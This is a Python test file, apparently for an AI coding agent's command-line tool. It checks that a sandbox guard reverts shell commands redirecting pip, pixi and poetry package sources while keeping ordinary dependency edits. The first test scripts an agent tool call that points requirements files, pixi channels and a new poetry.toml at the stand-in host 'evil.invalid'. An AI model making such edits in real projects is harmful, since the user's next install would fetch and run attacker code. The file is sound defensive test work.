"""Package indexes a command could still redirect after finding Q28 (uv.toml and
``[[tool.uv.index]]`` were guarded), through the console script and bubblewrap: a
requirements file's ``--index-url``/``--extra-index-url``/``-f`` lines, pixi's channels and
``pypi-options`` (``pixi.toml``, pyproject's ``[tool.pixi]``) and ``poetry.toml``. The user's
next ``pip install -r``, ``pixi install`` or ``poetry install`` would fetch every package
from the attacker and run its build code as the user. Each is set back (poetry.toml moved
out), the result says so, and a command's ordinary edit (a dependency) stays."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from ..sandboxing import require_sandbox
from .conftest import RunCli

EVIL = "https://evil.invalid/simple"
REQUIREMENTS = "requests==2.31.0\n"
PIXI = ('[project]\nname = "x"\nchannels = ["conda-forge"]\nplatforms = ["linux-64"]\n\n'
        '[dependencies]\npython = "*"\n')
PYPROJECT = ('[project]\nname = "x"\nversion = "1.0"\n\n[tool.pixi.workspace]\nchannels = ["conda-forge"]\n'
             'platforms = ["linux-64"]\n')


def run(run_cli: RunCli, script: Callable[[list[Any]], str], command: str) -> str:
    turns = [{"tool_calls": [{"name": "run_shell", "args": {"command": command}}]}, "Done."]
    r = run_cli("-p", "go", "--model", script(turns), "--permission-mode", "auto", "--approve", "never",
                "--no-session", "--output-format", "json")
    assert r.returncode == 0, r.stderr
    results = [str(m["content"]) for m in json.loads(r.stdout)["messages"] if m.get("role") == "tool"]
    assert len(results) == 1, results
    return results[0]


def test_a_command_cannot_redirect_pip_pixi_or_poetry(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    require_sandbox()
    (workspace / "requirements.txt").write_text(REQUIREMENTS)
    (workspace / "requirements-dev.txt").write_text("pytest\n")
    (workspace / "pixi.toml").write_text(PIXI)
    (workspace / "sub").mkdir()
    (workspace / "sub" / "pyproject.toml").write_text(PYPROJECT)
    command = (f"echo '--index-url {EVIL}' >> requirements.txt; echo '-f https://evil.invalid/w' >> "
               f"requirements-dev.txt; sed -i 's|\"conda-forge\"|\"https://evil.invalid/c\"|' pixi.toml "
               f"sub/pyproject.toml; printf '[repositories.x]\\nurl = \"{EVIL}\"\\n' > poetry.toml; "
               "echo done")
    text = run(run_cli, script, command)
    assert (workspace / "requirements.txt").read_text() == REQUIREMENTS, text
    assert (workspace / "requirements-dev.txt").read_text() == "pytest\n", text
    assert (workspace / "pixi.toml").read_text() == PIXI, text
    assert (workspace / "sub" / "pyproject.toml").read_text() == PYPROJECT, text
    assert not (workspace / "poetry.toml").exists(), text
    assert "where pip gets packages from" in text and "where pixi gets packages from" in text, text


def test_a_commands_new_dependency_stays(
    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
) -> None:
    require_sandbox()
    (workspace / "requirements.txt").write_text(f"--index-url {EVIL}\n{REQUIREMENTS}")  # the user's own index
    (workspace / "pixi.toml").write_text(PIXI)
    text = run(run_cli, script, "echo 'rich==13.0' >> requirements.txt; "
                                "printf 'numpy = \"*\"\\n' >> pixi.toml; echo done")
    assert (workspace / "requirements.txt").read_text().endswith("rich==13.0\n"), text
    assert (workspace / "pixi.toml").read_text().endswith('numpy = "*"\n'), text
    assert "set back" not in text, text
